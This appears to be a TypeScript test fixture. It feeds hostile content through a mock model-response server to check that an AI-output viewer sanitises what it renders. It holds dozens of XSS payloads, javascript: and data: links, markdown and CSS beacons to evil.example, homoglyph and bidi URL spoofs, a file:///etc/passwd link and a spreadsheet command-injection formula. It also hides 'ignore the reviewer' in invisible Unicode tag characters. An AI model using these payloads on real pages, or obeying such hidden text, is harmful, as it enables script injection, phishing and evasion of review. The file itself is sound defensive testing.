/** Hostile outputs, and a provider that sends them. Each hostile text begins with a mark of its own, so that one sees where it went. */
import { randomUUID } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** What nothing may ever be asked of. */
export const EVIL = 'evil.example'

/** What a script does that gets through: see the traps of the test. */
const RUN = 'window.trap(1)'

const TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//${EVIL}/a.js></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://${EVIL}/a.png" srcset="https://${EVIL}/b.png 2x">`,
  `<svg onload=${RUN}><use href="https://${EVIL}/a.svg#a"/></svg>`,
  `<svg><script>${RUN}</script><image href="https://${EVIL}/i.png"/></svg>`,
  `<iframe src="https://${EVIL}/f"></iframe><iframe srcdoc="<script>parent.trap(1)</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/m">`,
  `<base href="https://${EVIL}/"><link rel="stylesheet" href="https://${EVIL}/a.css">`,
  `<style>@import url(https://${EVIL}/b.css); body{background:url(https://${EVIL}/c.png)}</style>`,
  `<div style="background:url('https://${EVIL}/d.png');position:fixed;inset:0">over</div>`,
  `<a href="javascript:${RUN}">a</a><form action="https://${EVIL}/"><button autofocus onfocus=${RUN}>b</button></form>`,
  `<details open ontoggle=${RUN}>x</details><video autoplay><source src="https://${EVIL}/v" onerror=${RUN}></video>`,
  `<object data="https://${EVIL}/o"></object><embed src="https://${EVIL}/e"><portal src="https://${EVIL}/p"></portal>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}><!--><script>${RUN}</script>-->`,
  `"><img src=x onerror=${RUN}> '><svg/onload=${RUN}> \`\${${RUN}}\` {{constructor.constructor('${RUN}')()}}`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style></xmp><img src=x onerror=${RUN}>`,
  `![pixel](https://${EVIL}/p.png) ![p][r]\n\n[r]: https://${EVIL}/r.png`,
  `[![x](https://${EVIL}/q.png)](https://${EVIL}/l)`,
  `[bank](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java\nscript:${RUN}) [d](&#106;avascript:${RUN})`,
  `[d](data:text/html,<script>parent.trap(1)</script>) [v](vbscript:x) [f](file:///etc/passwd) [b](blob:https://${EVIL}/x)`,
  `[https://bank.example](https://${EVIL}/login "https://bank.example")`,
  `https://bank.example@${EVIL}/a https://bank.example%2f@${EVIL}/b [x](https://bank.example\\@${EVIL}/c)`,
  `https://\u0430pple.example/ https://xn--pple-43d.example/ [a](https://\u0430pple.example/)`,
  `<https://${EVIL}/auto> <javascript:${RUN}> <data:text/html,x> www.${EVIL} mailto:a@${EVIL} a@${EVIL}`,
  `[x]: javascript:${RUN}\n\n[x] [y][x] [^1]\n\n[^1]: ![n](https://${EVIL}/n.png) <img src=x onerror=${RUN}>`,
  `# [h](https://${EVIL}/h "t" onmouseover=${RUN}")\n\n| a |\n|---|\n| ![t](//${EVIL}/t.png) <img src=x onerror=${RUN}> |`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &lt;svg onload=${RUN}&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e %3Cscript%3E${RUN}%3C/script%3E`,
  `~~~html\n<script>${RUN}</script>\n~~~\n\n\`\`\`js onload=${RUN}\n<img src=https://${EVIL}/c.png>\n\`\`\``,
  '$@1 $undefined $Sreact.suspense $F1 $L2 $Q3 $ACTION_REF_1 {"$$typeof":"Symbol(react.element)"}',
  'pay \u202e0001\u202c euros to \u2066nimda\u2069 of ad\u200bmin \u200b\u200b\u200b\ufeff',
  `ok${[...'ignore the reviewer'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0008\u0008\u0007',
  'a NUL \u0000 in it, lone surrogates \ud800 and \udc00 and \udfff\ud800',
  `Z${'\u0335\u0321\u0322'.repeat(200)}algo \ufdfd\ufdfd\ufdfd`,
  `${'W'.repeat(12_000)}`,
  `${'> '.repeat(900)}deep`,
  `${'*a _b '.repeat(900)}`,
  `${'['.repeat(3_000)}${'![x]('.repeat(500)}`,
  `${'\n'.repeat(600)}far below`,
  '| '.repeat(800),
  `=HYPERLINK("https://${EVIL}/x","y") @SUM(1) +cmd|' /C calc'!A0`,
]

/** Other ways to write the same: what filters on the way may undo, and what they may miss. */
const MUTATIONS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `- ${text.replaceAll('\n', '\n  ')}\n> ${text.replaceAll('\n', '\n> ')}`,
  (text) => `[${text}](https://${EVIL}/around "${text}")`,
  (text) => text.replace(/[<>&]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => `<b><i>${text}</i>${text.toUpperCase().replaceAll('TRAP', 'trap').replaceAll('WINDOW', 'window')}`,
  (text) => `\ufeff<!-- ${text} -->\n\n${text}`,
]

const ADDRESSES: readonly ((mark: string) => string)[] = [
  (mark) => `https://${EVIL}/${mark}`,
  (mark) => `javascript:${RUN}//${mark}`,
  (mark) => `JAVASCRIPT:${RUN}//${mark}`,
  (mark) => ` \u0001javascript:${RUN}//${mark}`,
  (mark) => `java\tscript:${RUN}//${mark}`,
  (mark) => `data:text/html,<script>opener.trap(1)</script>${mark}`,
  (mark) => `//${EVIL}/${mark}`,
  (mark) => `https://bank.example@${EVIL}/${mark}`,
  (mark) => `https://${EVIL}\\@bank.example/${mark}`,
  (mark) => `https://\u0430pple.example/${mark}`,
  (mark) => `https://${EVIL}/${mark}?\u202egnp.exe"><img src=x onerror=${RUN}>`,
  (mark) => `/api/v1/jobs/1/commands?${mark}`,
  (mark) => `blob:https://${EVIL}/${mark}`,
  (mark) => `file:///etc/passwd#${mark}`,
  (mark) => `https://[::1]:1/${mark}`,
  (mark) => `http://${EVIL}:99999/${mark}`,
]

export type Hostile = {
  /** The next hostile text, another one each time. */
  text: () => string
  /** The next hostile address. */
  address: () => string
  /** The marks of all that was handed out: `tx4x` of a text, `ax5x` of an address. */
  marks: string[]
}

/** Hostile texts, beginning with the `from`th. */
export function hostileFrom(from: number): Hostile {
  const marks: string[] = []
  let count = from
  const mark = (kind: 'tx' | 'ax') => {
    count += 1
    marks.push(`${kind}${count}x`)
    return `${kind}${count}x`
  }
  return {
    marks,
    text: () => {
      const one = mark('tx')
      const mutate = MUTATIONS[Math.floor(count / TEXTS.length) % MUTATIONS.length] as (text: string) => string
      return `${one} ${mutate(TEXTS[count % TEXTS.length] as string)}`
    },
    address: () => {
      const one = mark('ax')
      return (ADDRESSES[count % ADDRESSES.length] as (mark: string) => string)(one)
    },
  }
}

/** Stands where 10,000 levels of lists are sent: `JSON.stringify` cannot write them. */
const DEEP = '@@deep@@'
const DEEP_JSON = `${'['.repeat(10_000)}${']'.repeat(10_000)}`

type Item = Record<string, unknown>

/** One item of each kind that a model, or a tool that it used, can write into; all but calls that wait for us. */
export function itemsOf({ text, address }: Hostile): Item[] {
  return [
    { type: 'reasoning', summary: [{ type: 'summary_text', text: text() }], content: [{ text: text() }] },
    {
      type: 'message',
      role: 'assistant',
      phase: 'commentary',
      content: [{ type: 'output_text', text: text(), annotations: annotations({ text, address }) }],
    },
    { type: 'message', role: 'assistant', phase: 'commentary', content: [{ type: text(), video: text() }] },
    {
      type: 'web_search_call',
      status: text(),
      action: {
        type: 'search',
        queries: [text(), text()],
        sources: [{ type: 'url', url: address() }, { url: address() }],
      },
    },
    { type: 'web_search_call', status: 'completed', action: { type: 'open_page', url: address() } },
    { type: 'web_search_call', status: 'completed', action: { type: 'find_in_page', url: address(), pattern: text() } },
    {
      type: 'file_search_call',
      status: 'completed',
      queries: [text()],
      results: [{ filename: text(), score: 1e308, text: text(), attributes: { [text()]: text() } }],
    },
    {
      type: 'code_interpreter_call',
      status: 'completed',
      code: text(),
      container_id: 'c',
      outputs: [
        { type: 'logs', logs: text() },
        { type: 'image', url: address() },
        { type: text(), other: text() },
      ],
    },
    {
      type: 'mcp_list_tools',
      server_label: text(),
      tools: [{ name: text(), description: text(), input_schema: { a: text() } }],
    },
    {
      type: 'mcp_call',
      status: 'failed',
      server_label: text(),
      name: text(),
      arguments: JSON.stringify({ a: text() }),
      output: text(),
      error: { type: text(), code: 1, message: text() },
    },
    { type: 'mcp_approval_response', approve: true, reason: text() },
    { type: 'function_call_output', status: 'completed', output: text() },
    { type: 'image_generation_call', status: 'completed', result: address(), revised_prompt: text() },
    { type: text().slice(0, 90), anything: text() },
    JSON.parse(
      `{"type":"hologram","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"deep":"${DEEP}"}`,
    ),
  ]
}

function annotations({ text, address }: Pick<Hostile, 'text' | 'address'>): Item[] {
  return [
    { type: 'url_citation', url: address(), title: text(), start_index: 0, end_index: 5 },
    { type: 'url_citation', url: address(), title: text(), start_index: -1, end_index: 1e9 },
    { type: 'file_citation', file_id: 'f', filename: text(), index: 0 },
    {
      type: 'container_file_citation',
      container_id: 'c',
      file_id: 'f',
      filename: text(),
      start_index: 0,
      end_index: 2,
    },
    { type: text(), index: 0 },
  ]
}

/** A report in which every word is hostile. */
export function reportOf({ text }: Hostile): string {
  const citations = () => citationsOf(text)
  return JSON.stringify({
    title: text(),
    summary: text(),
    findings: [
      { claim: text(), citations: citations() },
      { claim: text(), citations: [] },
      { claim: text(), citations: citations() },
    ],
    open_questions: [text(), text()],
  })
}

/** An answer of each kind that has a reading view of its own, in which every word is hostile. */
export const answersOf: Record<'reply' | 'recommendation' | 'action' | 'extraction', (hostile: Hostile) => string> = {
  reply: ({ text }) =>
    JSON.stringify({
      subject: text(),
      body: text(),
      points: [{ point: text(), citations: citationsOf(text) }],
      open_questions: [text()],
    }),
  recommendation: ({ text }) => {
    const [first, second] = [text(), text()]
    return JSON.stringify({
      question: text(),
      options: [
        { id: first, title: text(), risks: [text(), text()] },
        { id: second, title: text(), risks: [] },
      ],
      reasons: [
        { option: first, for: true, reason: text(), citations: citationsOf(text) },
        { option: second, for: false, reason: text(), citations: [] },
        { option: 'none', for: true, reason: text(), citations: [] },
      ],
      recommended: text(),
      why: text(),
      choice: text(),
      open_questions: [text()],
    })
  },
  action: ({ text }) =>
    JSON.stringify({
      action: { type: text(), order: text(), amount: 1e308, currency: text(), reason: text(), [text()]: { a: text() } },
      why: text(),
      grounds: [{ ground: text(), citations: citationsOf(text) }],
    }),
  extraction: ({ text }) =>
    JSON.stringify({
      fields: [
        { name: text(), value: text(), citations: citationsOf(text), note: text() },
        { name: text(), value: null, citations: [], note: text() },
      ],
    }),
}

const citationsOf = (text: Hostile['text']) => [
  { document: 'd1', quote: text() },
  { document: text(), quote: text() },
]

export const answer = (text: string, part: Item = {}): Item => ({
  type: 'message',
  role: 'assistant',
  status: 'completed',
  content: [{ type: 'output_text', text, annotations: [], ...part }],
})

/** More than any page could draw at once. */
export const giant = ({ text }: Hostile): Item => ({
  type: 'reasoning',
  summary: [{ type: 'summary_text', text: `${text()} ${'<b>giant</b> '.repeat(100_000)}` }],
})

export type HostileProvider = { url: string; close(): Promise<void> }

/** Answers a create whose input names `[case-3]` with the fourth of `bodies`. */
export async function startHostileProvider(bodies: readonly Item[]): Promise<HostileProvider> {
  const made = new Map<string, string>()
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    const send = (status: number, json: string) =>
      response.writeHead(status, { 'content-type': 'application/json' }).end(json)
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const [, id] = /^\/v1\/responses\/([^/]+)/.exec(request.url ?? '') ?? []
      if (id !== undefined) return send(made.has(id) ? 200 : 404, made.get(id) ?? '{"error":{"message":"Not found."}}')
      const asked = JSON.parse(Buffer.concat(chunks).toString('utf8')) as Item
      const number = Number(/\[case-(\d+)\]/.exec(JSON.stringify(asked.input))?.[1])
      const common = {
        id: `resp_${randomUUID().replaceAll('-', '')}`,
        object: 'response',
        created_at: Math.floor(Date.now() / 1000),
        metadata: asked.metadata,
        model: asked.model,
      }
      const usage = { input_tokens: 20, output_tokens: 10, total_tokens: 30 }
      const body = { ...common, status: 'completed', completed_at: common.created_at, usage, ...bodies[number] }
      made.set(common.id, JSON.stringify(body).replaceAll(`"${DEEP}"`, DEEP_JSON))
      send(200, JSON.stringify({ ...common, status: 'queued', output: [] }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}
